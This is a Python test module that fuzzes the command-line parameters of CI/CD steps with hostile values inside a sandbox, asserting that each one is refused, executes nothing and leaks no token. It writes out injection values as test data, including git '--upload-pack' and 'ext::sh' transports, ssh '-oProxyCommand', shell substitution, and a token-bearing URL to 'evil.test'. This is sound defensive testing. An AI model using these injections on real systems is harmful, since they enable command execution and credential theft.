"""Every hostile value through every parameter of every step: nothing of it is run, and no credential leaves for another host.

What is to be refused is decided here, by what git, `urllib` and Unicode say of a value, not by the parsers of the steps.
"""

import contextlib
import functools
import importlib
import inspect
import io
import logging
import os
import random
import shutil
import socket
import string
import subprocess
import sys
import tempfile
import typing
import unicodedata
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest

from steps import command_line
from steps.clients.configuration import ConfigLocation
from steps.core.annotations import without_none
from steps.core.applications import PairName
from steps.core.build_context import Destination, Location, PushedImage, SourcePath
from steps.core.duration import Duration
from steps.core.image import Image
from steps.core.kustomization import ImageEdit
from steps.core.pull_request_body import DashboardUrl, KubernetesName, TitleTemplate
from steps.core.repository import Branch, Commit, Head, Person, Repository, Revision, Server
from steps.core.text import Text
from steps.core.update import Application, Version
from tests.hostile import CORPUS
from tests.sandbox import go
from tests.sandbox.github import GitHub
from tests.sandbox.kubernetes import Kubernetes
from tests.sandbox.other_hosts import OtherHosts
from tests.sandbox.storage import Storage
from tests.sandbox.worktree import Worktree
from tests.sandbox.world import package
from tests.steps.conftest import ROOT, hurry, publish
from tests.steps.remotes import Remotes

STEPS = sorted(
    path.stem
    for path in (ROOT / "steps").glob("*.py")
    if "command_line.run(" in path.read_text() and path.stem != "command_line"
)
GIT = shutil.which("git") or "git"
TOKEN = "token-of-bot"
DIGITS, LOWER = set("0123456789"), set("abcdefghijklmnopqrstuvwxyz")
ALPHANUMERIC = DIGITS | LOWER | {letter.upper() for letter in LOWER}
REORDERING = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}


def is_utf_8(text: str) -> bool:
    return not any("\ud800" <= sign <= "\udfff" for sign in set(text))


def is_line(text: str) -> bool:
    return is_utf_8(text) and not any(
        unicodedata.category(sign) in ("Cc", "Zl", "Zp") or unicodedata.bidirectional(sign) in REORDERING
        for sign in set(text)
    )


def is_text(text: str) -> bool:
    signs = set(text.replace("\r\n", "\n")) - set("\n\t")
    return is_utf_8(text) and not any(unicodedata.category(sign) == "Cc" for sign in signs)


def is_path(text: str) -> bool:
    """Linux has names of at most 255 bytes, and paths of 4095, some of which the directory that they start at may need."""
    return is_line(text) and len(text.encode()) <= 2048 and all(len(part.encode()) <= 255 for part in text.split("/"))


def is_number(text: str) -> bool:
    return set(text) <= DIGITS and len(text) <= 12


def is_list(text: str) -> bool:
    return all(is_line(part.strip()) for part in text.split(","))


@functools.cache
def git_takes(ref: str) -> bool:
    return subprocess.run([GIT, "check-ref-format", ref], check=False).returncode == 0


def is_branch(text: str) -> bool:
    bad = text.startswith(("-", "refs/")) or "/-" in text or text in ("@", "HEAD")
    return not bad and is_line(text) and git_takes(f"refs/heads/{text}")


def is_revision(text: str) -> bool:
    return text == "HEAD" or is_branch(text.removeprefix("refs/"))


def is_commit(text: str) -> bool:
    return set(text) <= DIGITS | set("abcdef") and len(text) in (40, 64)


def is_application(text: str) -> bool:
    return set(text) <= ALPHANUMERIC | set("._-") and text[0] in ALPHANUMERIC and len(text) <= 100 and is_branch(text)


def is_version(text: str) -> bool:
    return len(text) <= 100 and all(part and is_application(part) for part in text.split("/"))


def is_host(text: str | None) -> bool:
    name = text or "-"
    return set(name) <= ALPHANUMERIC | set(".-:") and not {name[0], name[-1]} & set(".-")


def is_repository(text: str) -> bool:
    if not text.isascii() or len(text) > 400 or not set(text) <= ALPHANUMERIC | set(":/@.~_+%[]-"):
        return False
    if "://" in text:
        try:
            parts = urlsplit(text)
            user, path = parts.username, parts.path.removeprefix("/")
            good = parts.scheme in ("https", "http") or (parts.scheme == "ssh" and parts.password is None)
            good = good and is_host(parts.hostname) and parts.port != 0
        except ValueError:
            return False
        if "@" in parts.netloc and (parts.scheme != "ssh" or not user or user.startswith("-")):
            return False
    else:
        place, colon, path = text.partition(":")
        user, at, host = place.rpartition("@")
        good = bool(colon) and is_host(host) and not user.startswith("-") and not (at and not user)
    names = unquote(path, errors="surrogateescape").removesuffix("/").removesuffix(".git").split("/")
    return good and all(
        name not in ("", ".", "..") and not name.startswith("-") and not set(name) & set("\0\n\r:@%") for name in names
    )


def is_server(text: str) -> bool:
    if not is_repository(f"{text.rstrip('/')}/o/n"):
        return False
    parts = urlsplit(text)
    on_this_machine = parts.hostname in ("127.0.0.1", "localhost")
    return not parts.path.strip("/") and (parts.scheme == "https" or (parts.scheme == "http" and on_this_machine))


def is_image(text: str) -> bool:
    rest, at, digest = text.partition("@")
    kind, _, digits = digest.partition(":")
    if at and not (
        kind in ("sha256", "sha384", "sha512") and set(digits) <= DIGITS | set("abcdef") and len(digits) >= 64
    ):
        return False
    first, slash, last = rest.rpartition("/")
    last, colon, tag = last.partition(":")
    name = f"{first}{slash}{last}"
    if colon and not (0 < len(tag) <= 128 and set(tag) <= ALPHANUMERIC | set("._-") and tag[0] not in ".-"):
        return False
    host, *parts = name.split("/")
    if name.startswith(":") or host.endswith(":"):
        return False
    if not parts or not set(host) & (ALPHANUMERIC - LOWER - DIGITS | set(".:")):
        parts = [host, *parts]
    elif not is_host(host) or not set(host.partition(":")[2]) <= DIGITS:
        return False
    return len(name) <= 255 and all(
        part and set(part) <= LOWER | DIGITS | set("._-") and {part[0], part[-1]} <= LOWER | DIGITS and ".." not in part
        for part in parts
    )


def is_pushed_image(text: str) -> bool:
    return is_image(text) and "@" not in text


def is_image_edit(text: str) -> bool:
    left, equals, right = text.partition("=")
    if not equals:
        return is_image(text.removesuffix("@*").replace("*", "x")) and (":" in text.rpartition("/")[2] or "@" in text)
    return is_image(left) and is_image(right.removesuffix("@*").replace("*", "x"))


def is_person(text: str) -> bool:
    name, space, mail = text.rpartition(" <")
    return (
        is_line(text)
        and bool(name and space)
        and mail.endswith(">")
        and mail.count("@") == 1
        and not set(name) & set("<>")
    )


def is_head(text: str) -> bool:
    place, colon, branch = text.rpartition(":")
    named = not colon or not place or set(place) <= ALPHANUMERIC | set("/._-")
    return named and not place.startswith("-") and (not branch or is_branch(branch))


def is_configuration(text: str) -> bool:
    if "://" not in text:
        return is_path(text)
    if not text.isascii() or not text.isprintable() or len(text) > 8000 or set(text) & set(" \\"):
        return False
    try:
        parts = urlsplit(text)
        return parts.scheme == "https" and "@" not in parts.netloc and is_host(parts.hostname) and parts.port != 0
    except ValueError:
        return False


def is_list_of_paths(text: str) -> bool:
    return all(is_path(part.strip()) for part in text.split(",") if part.strip())


def is_pair(text: str) -> bool:
    application, comma, version = text.partition(",")
    return is_line(text) and bool(application.strip()) and (not comma or bool(version.strip()))


def is_title(text: str) -> bool:
    known = {None, "application", "version", "image", "tag", "digest", "source-commit"}
    try:
        fields = list(string.Formatter().parse(text))
    except ValueError:
        return False
    return (
        is_line(text)
        and bool(text.strip())
        and all(name in known and not form and not conversion for _, name, form, conversion in fields)
    )


def is_dashboard(text: str) -> bool:
    if not text.startswith(("https://", "http://")) or len(text) > 400:
        return False
    try:
        parts = urlsplit(text)
    except ValueError:
        return False
    port = parts.netloc.rpartition("]")[2].partition(":")[1:]
    return (
        text.isascii()
        and set(parts.path) <= ALPHANUMERIC | set("._~%/-")
        and not set(text) & set("@?#\n\r\t")
        and is_host(parts.hostname)
        and (port[0] == "" or (0 < len(port[1]) <= 5 and set(port[1]) <= DIGITS))
    )


def is_kubernetes_name(text: str) -> bool:
    ends = LOWER | DIGITS
    return len(text) <= 253 and all(
        part and set(part) <= ends | {"-"} and {part[0], part[-1]} <= ends for part in text.split(".")
    )


def is_duration(text: str) -> bool:
    seconds = 0
    for unit, size in (("h", 3600), ("m", 60), ("s", 1)):
        number, found, rest = text.partition(unit)
        if found:
            if not (0 < len(number) <= 6 and set(number) <= DIGITS):
                return False
            seconds, text = seconds + int(number) * size, rest
    return not text and 1 <= seconds <= 7 * 86_400


def leads_out(path: str) -> bool:
    depth = 0
    for part in path.split("/"):
        depth += {"": 0, ".": 0, "..": -1}.get(part, 1)
        if depth < 0:
            return True
    return path.startswith("/")


def is_source_path(text: str) -> bool:
    return is_path(text) and not leads_out(text)


def is_object(text: str) -> bool:
    bucket, _, name = text.partition("/")
    good = set(bucket) <= LOWER | DIGITS | set("._-") and not {".", ".."} & set(name.split("/"))
    return good and name.isascii() and name.isprintable() and not set(name) & set(' ?#%*[]"\\')


def is_destination(text: str) -> bool:
    scheme, separator, rest = text.partition("://")
    return is_path(text) and (scheme == "gs" and is_object(rest) if separator else not text.endswith("/"))


def is_location(text: str) -> bool:
    scheme, separator, rest = text.partition("://")
    if not separator or scheme in ("tar", "dir"):
        return is_path(text)
    place, _, path = rest.partition("/")
    rules = {"gs": is_object(rest), "s3": bool(place and path), "https": bool(place and path) and "@" not in place}
    return is_line(text) and rules.get(scheme, False)


ORACLE: dict[Any, Callable[[str], bool]] = {
    bool: lambda text: text.lower() in ("true", "false"),
    int: is_number,
    str: is_line,
    Path: is_path,
    tuple[str, ...]: is_list,
    tuple[Path, ...]: is_list_of_paths,
    Application: is_application,
    Branch: is_branch,
    Commit: is_commit,
    DashboardUrl: is_dashboard,
    ConfigLocation: is_configuration,
    Destination: is_destination,
    Duration: is_duration,
    Head: is_head,
    Image: is_image,
    ImageEdit: is_image_edit,
    KubernetesName: is_kubernetes_name,
    Location: is_location,
    PairName: is_pair,
    Person: is_person,
    PushedImage: is_pushed_image,
    Repository: is_repository,
    Revision: is_revision,
    Server: is_server,
    SourcePath: is_source_path,
    Text: is_text,
    TitleTemplate: is_title,
    Version: is_version,
}


def acceptable(kind: Any, text: str) -> bool:
    """Whether a parameter of an annotation may have a value; what it may not have is to be refused by the command line."""
    if typing.get_origin(kind) is typing.Literal:
        return text in typing.get_args(kind)
    assert kind in ORACLE, f"tell in ORACLE what a parameter of the type {kind} may have"
    return ORACLE[kind](text)


CARRIED = {str, Text, Person, Image, Application, Version, TitleTemplate, DashboardUrl, KubernetesName}
"""Types of values that end no run early, so that many of them go into one."""

KUSTOMIZATION = "resources:\n- deployment.yaml\nimages:\n- name: web\n  newTag: v1\n"
FAKE_SSH = """\
#!/bin/sh
for word; do case $word in -oProxyCommand*|-oPermitLocal*|-oKnownHostsCommand*) canary;; esac; done
exit 255
"""

APPLICATIONS = """\
applications:
  - {name: web, sourceRepo: source, context: web, manifestsDir: web, image: web}
versions:
  - name: main
    tag: vmain
    repos:
      - {name: source, url: GITHUB/kubeflow/source, branch: main}
      - {name: manifests, url: GITHUB/kubeflow/manifests, branch: main}
"""


@dataclass(frozen=True)
class Outcome:
    code: int
    reason: str
    message: str


class World:
    """A GitHub, all other hosts, Cloud Storage, an API server, files for all steps, and a PATH that tells what was started.

    Args:
        root: an empty directory.
        patch: what changes the environment, and the working directory.
    """

    def __init__(self, root: Path, patch: pytest.MonkeyPatch, stack: contextlib.ExitStack) -> None:
        self.root, self._patch = root, patch
        self.runs = 0
        self.valid = functools.cache(self._valid)
        self.started, self.executed = root / "started", root / "executed"
        (root / "remotes").mkdir()
        self.remotes = Remotes(root / "remotes", patch)
        self.remotes.begin()
        self.others = stack.enter_context(OtherHosts(root / "others"))
        self.storage = stack.enter_context(Storage())
        self.storage.create_bucket("contexts")
        self.github = stack.enter_context(GitHub(root / "github"))
        self.github.add_user("bot", token=TOKEN)
        (root / "kubernetes").mkdir()
        self.kubernetes = stack.enter_context(Kubernetes(root / "kubernetes", "apps-cd"))
        for resource in ("configmaps", "leases"):
            self.kubernetes.add(resource, {"metadata": {"name": "apps-cd-reconciler"}})
        patch.setenv("KUBECONFIG", str(self.kubernetes.kubeconfig))
        tree = Worktree(root / "tree")
        self.commit = tree.commit("Begin", {"web/kustomization.yaml": "images:\n- name: web\n  newTag: v1\n"})
        publish(tree.path, self.github.add_repository("kubeflow/manifests", writers=["bot"]))
        source = Worktree(root / "source-tree")
        source.commit("Begin", {"web/Dockerfile": "FROM scratch\n"})
        publish(source.path, self.github.add_repository("kubeflow/source", writers=["bot"]))
        (tree.path / "web/kustomization.yaml").write_text("images:\n- name: web\n  newTag: v2\n")
        host = self.github.url.removeprefix("http://")
        self.places = {"HOST": host, "ELSEWHERE": self.others.host}
        for name, text in {
            "secret/.git-credentials": f"http://x-access-token:{TOKEN}@{host}\nhttps://x-access-token:{TOKEN}@github.com\n",
            "secret/ssh-privatekey": "-----BEGIN OPENSSH PRIVATE KEY-----\n",
            "secret/known_hosts": "evil.test ssh-ed25519 AAAA\n",
            "secret/ca.crt": self.others.ca_file.read_text(),
            "token/token": TOKEN,
            "token/ca.crt": self.others.ca_file.read_text(),
            "app/app-id": "1",
            "app/private-key": "-----BEGIN RSA PRIVATE KEY-----\n",
            "message": "Update web\n",
            "applications.yaml": APPLICATIONS.replace("GITHUB", self.github.url),
            "source/web/Dockerfile": "FROM scratch\n",
        }.items():
            (root / name).parent.mkdir(parents=True, exist_ok=True)
            (root / name).write_text(text)
        self._set_path()
        proxy = f"http://{self.others.host}"
        for name, value in {
            **dict.fromkeys(("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY"), proxy),
            **dict.fromkeys(("no_proxy", "NO_PROXY"), "127.0.0.1"),
            **dict.fromkeys(("SSL_CERT_FILE", "GIT_SSL_CAINFO"), str(self.others.ca_file)),
            "STORAGE_EMULATOR_HOST": self.storage.url,
        }.items():
            patch.setenv(name, value)
        patch.setattr(socket, "getaddrinfo", _without_names(socket.getaddrinfo))
        hurry(patch)
        handler = logging.Handler()
        handler.emit = self._keep  # type: ignore[method-assign]  # the shortest way to see the last record
        logger = logging.getLogger("steps")
        logger.addHandler(handler)
        stack.callback(logger.removeHandler, handler)
        self._records: list[logging.LogRecord] = []

    def _keep(self, record: logging.LogRecord) -> None:
        if hasattr(record, "reason"):
            self._records.append(record)

    def _set_path(self) -> None:
        programs = self.root / "bin"
        programs.mkdir()
        real = {name: shutil.which(name) for name in ("git", "sh", "env")}
        scripts = {name: f'#!/bin/sh\necho {name} >> {self.started}\nexec {path} "$@"\n' for name, path in real.items()}
        scripts["ssh"] = FAKE_SSH
        scripts["kustomize"] = f'#!/bin/sh\nexec {go.program("kustomize")} "$@"\n'
        scripts["canary"] = f"#!/bin/sh\necho canary >> {self.executed}\n"
        for name, text in scripts.items():
            (programs / name).write_text(text)
            (programs / name).chmod(0o755)
        self._patch.setenv("PATH", f"{programs}:{os.environ['PATH']}")

    def enter(self) -> None:
        """Go to a fresh directory, deep enough that a way up stays in the world."""
        self.runs += 1
        self.valid.cache_clear()
        directory = self.root / "runs" / str(self.runs) / "/".join("abcdefgh")
        directory.mkdir(parents=True)
        self._patch.chdir(directory)
        Path("kustomization").mkdir()
        for name, text in package("kustomization", KUSTOMIZATION, "web").items():
            Path(name).write_text(text)

    def _valid(self, step: str) -> dict[str, str]:
        """What the parameters of a step may well have, some of it for this run alone."""
        values = {
            **{name: str(path) for name, path in self.remotes.flags.items()},
            "output_dir": "runs",
            "only": "web",
            "app": "web",
            "interval": "600s",
            "retry_delay": "900s",
            "state": "apps-cd-reconciler",
            "port": "8080",
            "webhook_secret": str(self.root / "message"),
            "attempts": "3",
            **dict.fromkeys(("max_runs", "max_runs_per_repository", "max_runs_per_hour"), "1"),
            "format": "json",
            "timeout": "60",
            "ssh_key": str(self.root / "secret/ssh-privatekey"),
            "url": f"{self.github.url}/kubeflow/manifests",
            "revision": "main",
            "destination": "tree" if step == "clone_repository" else "context.tar.gz",
            "depth": "1",
            "credentials": str(self.root / "secret"),
            "source_dir": str(self.root / "source"),
            "context": "web",
            "dockerfile": "web/Dockerfile",
            "image": "registry.example.com/team/web:v2",
            "google_credentials": str(self.root / "message"),
            "symlinks": "refuse",
            "images": "web=registry.example.com/team/web:v2",
            "kustomization_dir": "kustomization",
            "digest_style": "both",
            "repo_dir": str(self.root / "tree"),
            "base": "main",
            "base_commit": self.commit,
            "application": f"web{self.runs}",
            "version": "v1",
            "src_image_url": "registry.example.com/team/web",
            "source_url": f"{self.github.url}/kubeflow/web",
            "source_commit": "1" * 40,
            "source_date": "1767323045",
            "source_branch": "main",
            "previous_image": "registry.example.com/team/web:v1",
            "title": "Update {application}",
            "rendered_diff": str(self.root / "message"),
            "dashboard_url": "https://tekton.example.com",
            "namespace": "apps-cd",
            "pipeline_run": "web-v1",
            "auto_merge": "squash",
            "pull_request": "1",
            "github_app": str(self.root / "app"),
            "message": "Update web\n\nTo the newest image.",
            "file": str(self.root / "message"),
            "head": "bot:web",
            "labels": "update",
            "reviewer": "bot",
            "assign": "bot",
            "milestone": "1.0",
            "author": "bot <bot@example.com>",
            "date": "1767323045",
            "github_url": self.github.url,
            "github_token": str(self.root / "token"),
        }
        if step == "reconcile":
            values["config"] = str(self.root / "applications.yaml")
        if step == "set_image":
            values |= {"repo_dir": ".", "also_verify": "kustomization", "rendered_diff": "rendered.diff"}
        for name, (kind, _) in parameters(step).items():
            if name.endswith("_result"):
                values[name] = name
            elif kind is bool:
                values[name] = "true" if name in ("once", "verify") else "false"
            assert name in values, f"tell in `valid` what the parameter {name} of {step} may well have"
        return values

    def argv(self, step: str, **hostile: str) -> list[str]:
        """The command line of a step with some values in place of valid ones."""
        usual = {
            "output_dir",
            "credentials",
            "source_dir",
            "context",
            "application",
            "version",
            "message",
            "github_url",
        }
        usual |= {"github_token", "dockerfile", "only", "src_image_url", "once", "verify"}
        if "file" in hostile:
            usual.remove("message")
        taken = parameters(step)
        if "github_app" in hostile:
            usual.remove("github_token")
        if "google_credentials" in hostile:
            hostile["destination"] = "gs://contexts/web"
        given = {
            name: self.valid(step)[name] for name, (_, required) in taken.items() if required or name in usual
        } | hostile
        words = [f"--{name.replace('_', '-')}={value}" for name, value in given.items() if name not in data_of(step)]
        return [*words, *(["--", *(given[name] for name in data_of(step))] if data_of(step) else [])]

    def filled(self, step: str, name: str, text: str) -> str:
        """A value of the corpus, for one parameter."""
        for word, place in self.places.items():
            text = text.replace(word, place)
        return text.replace("VALID", self.valid(step)[name])

    def call(self, step: str, argv: list[str]) -> Outcome:
        self._records.clear()
        with contextlib.redirect_stdout(io.StringIO()):
            code = command_line.main(function_of(step), argv)
        told = "; ".join(record.getMessage() for record in self._records)
        return Outcome(code, "".join(vars(record)["reason"] for record in self._records), told)

    @property
    def asked(self) -> list[int]:
        """How many requests the servers have had."""
        return [len(server.requests) for server in (self.github, self.others, self.storage, self.kubernetes)]

    @property
    def leaked(self) -> list[str]:
        return [request.host for request in self.others.requests if request.authorization]


def _without_names(real: Callable[..., Any]) -> Callable[..., Any]:
    """No host has an address but those that are addresses: nothing of this reaches a network."""

    def getaddrinfo(host: str | bytes | None, port: Any, *more: Any, **named: Any) -> Any:
        text = host.decode() if isinstance(host, bytes) else host
        if text not in (None, "localhost", "127.0.0.1"):
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
        return real(host, port, *more, **named)

    return getaddrinfo


def function_of(step: str) -> Callable[..., None]:
    function: Callable[..., None] = getattr(importlib.import_module(f"steps.{step}"), step)
    return function


@functools.cache
def parameters(step: str) -> dict[str, tuple[Any, bool]]:
    """The type of each parameter of a step, and whether it must be given."""
    function = function_of(step)
    hints = typing.get_type_hints(function)
    return {
        name: (without_none(hints[name]), parameter.default is parameter.empty)
        for name, parameter in inspect.signature(function).parameters.items()
    }


@functools.cache
def data_of(step: str) -> list[str]:
    """The parameter that takes what stands behind `--`."""
    found = inspect.signature(function_of(step)).parameters.values()
    return [parameter.name for parameter in found if parameter.kind is parameter.VAR_POSITIONAL]


@contextlib.contextmanager
def world() -> Iterator[World]:
    with (
        tempfile.TemporaryDirectory(prefix="hostile-") as root,
        pytest.MonkeyPatch.context() as patch,
        contextlib.ExitStack() as stack,
    ):
        yield World(Path(root), patch, stack)


def measured(world: World, step: str, wrong: list[str], one_in: int) -> Counter[str]:
    """Figures of one step; what should not have happened is told in `wrong`."""
    figures: Counter[str] = Counter(parameters=len(parameters(step)))
    world.enter()
    accepted: dict[str, dict[str, list[str]]] = {kind: {} for kind in CORPUS}
    requests = world.asked
    world.started.unlink(missing_ok=True)
    for turn, (name, (annotation, _)) in enumerate(parameters(step).items()):
        for kind, values in CORPUS.items():
            for title, text in list(values.items())[turn % one_in :: one_in]:
                value = world.filled(step, name, text)
                figures["combinations"] += 1
                if acceptable(annotation, value):
                    accepted[kind].setdefault(name, []).append(value)
                    continue
                figures["to refuse"] += 1
                outcome = world.call(step, world.argv(step, **{name: value}))
                named = f"--{name.replace('_', '-')}" in outcome.message or f"{name}[" in outcome.message
                asked = world.asked
                if (outcome.code, named, asked, world.started.exists()) == (2, True, requests, False):
                    figures["refused"] += 1
                else:
                    wrong.append(f"{step} {name}: {title} ({kind}) was not refused: {outcome}"[:400])
                    requests = asked
                    world.started.unlink(missing_ok=True)
    for hostile in runs(step, accepted):
        world.enter()
        outcome = world.call(step, world.argv(step, **hostile))
        figures["runs"] += 1
        if outcome.code not in (0, 1, 2, 75) or outcome.reason == "defect":
            shown = {name: value[:60] for name, value in hostile.items()}
            wrong.append(f"{step} with {shown}: {outcome}"[:600])
        if world.executed.exists():
            figures["executed"] += 1
            wrong.append(f"{step} ran something of {hostile}"[:400])
            world.executed.unlink()
    return figures


def runs(step: str, accepted: dict[str, dict[str, list[str]]]) -> Iterator[dict[str, str]]:
    """Values for one run each: one of each kind for each parameter, and every address for what is connected to.

    Args:
        accepted: by kind and parameter, what the parameter may have.
    """
    choose = random.Random(step).choice  # noqa: S311 - the same at each time
    lists: dict[str, list[str]] = {}
    for kind, found in accepted.items():
        together = {}
        for name, values in found.items():
            annotation, required = parameters(step)[name]
            connects = annotation is Server or (annotation is Repository and required)
            if annotation == tuple[str, ...]:
                lists.setdefault(name, []).append(choose(values))
            elif annotation in CARRIED or name.endswith("_result") or (annotation is Repository and not required):
                together[name] = choose(values)
            elif kind == "addresses" and connects:
                yield from ({name: value} for value in values)
            elif annotation is Path and "dry_run" in parameters(step):
                yield {name: choose(values), "dry_run": "true"}
            else:
                yield {name: choose(values)}
        if together:
            yield together
    if lists:
        yield {name: ",".join(values) for name, values in lists.items()}


def measure(steps: list[str] | None = None, wrong: list[str] | None = None, one_in: int = 1) -> dict[str, int]:
    """Let every value into every parameter of steps, by default of all.

    Args:
        steps: names of modules.
        wrong: receives a sentence on each thing that should not have happened.
        one_in: how many values there are for each that is let in; the next parameter gets the next ones.

    Returns:
        How many `values` and `parameters` there are, and `combinations` of both; those `to refuse` and those `refused`
        with exit 2, before a request or a child; `runs` with the others, those in which something was `executed`, and
        the requests by which an Authorization header `leaked` to another host.
    """
    figures: Counter[str] = Counter(values=sum(map(len, CORPUS.values())), executed=0, leaked=0)
    with world() as place:
        for step in steps or STEPS:
            figures.update(measured(place, step, [] if wrong is None else wrong, one_in))
        figures["leaked"] = len(place.leaked)
    return dict(figures)


@pytest.mark.parametrize("step", STEPS)
def test_hostile_values_are_refused_or_do_nothing(step: str) -> None:
    wrong: list[str] = []
    figures = measure([step], wrong, one_in=12)  # `make figures` lets in all
    assert wrong == []
    assert figures["values"] >= 200
    assert figures["combinations"] >= figures["values"] * figures["parameters"] // 13
    assert (figures["refused"], figures["executed"], figures["leaked"]) == (figures["to refuse"], 0, 0)


def test_without_our_care_the_traps_work() -> None:
    with world() as place:
        place.enter()
        secret = f"https://bot:{TOKEN}@github.com.evil.test/o/n"
        for command in (
            ["sh", "-c", ": $(canary)"],
            ["ssh", "-oProxyCommand=canary", "evil.test"],
            ["git", "ls-remote", "--upload-pack=canary", f"{place.root}/tree"],
            ["git", "-c", "protocol.ext.allow=always", "ls-remote", "ext::canary"],
        ):
            subprocess.run(command, check=False, capture_output=True)
            assert place.executed.read_text() == "canary\n", command
            place.executed.unlink()
        assert place.started.read_text().split()[:2] == ["sh", "git"]
        subprocess.run(["git", "ls-remote", secret], check=False, capture_output=True)
        assert place.leaked == ["github.com.evil.test:443"]


def test_hostile_values_are_refused_by_processes_too() -> None:
    """As the kubelet starts them: with bytes, which need not be UTF-8."""
    sample = {
        "a byte that is no UTF-8": b"main\xff",
        "a NUL in two bytes": b"main\xc0\x80",
        "an upload-pack of one's own": b"--upload-pack=canary",
        "a shell as transport": b"ext::sh -c canary",
        "a line feed and an option": b"main\n--upload-pack=canary",
        "a substitution in a file": b"$(canary)\n",
    }
    with world() as place:
        place.enter()
        requests = len(place.github.requests)
        environment = {**os.environ, "PYTHONPATH": str(ROOT)}
        children = {}
        for step in STEPS:
            name = next(name for name, (_, needed) in parameters(step).items() if needed or name in data_of(step))
            for title, value in sample.items():
                text = os.fsdecode(value)
                if not acceptable(parameters(step)[name][0], text):
                    command = [sys.executable, "-m", f"steps.{step}", *place.argv(step, **{name: text})]
                    child = subprocess.Popen(command, env=environment, stderr=subprocess.PIPE, text=True)
                    children[f"{title} as {name} of {step}"] = child, name
        outcomes = {}
        for title, (child, name) in children.items():
            _, log = child.communicate()
            named = f"--{name.replace('_', '-')}: " in log or f"{name}[0]: " in log
            outcomes[title] = child.returncode, named
        assert outcomes == dict.fromkeys(outcomes, (2, True))
        assert len(outcomes) >= 3 * len(STEPS)
        assert not place.started.exists()
        assert not place.executed.exists()
        assert len(place.github.requests) == requests
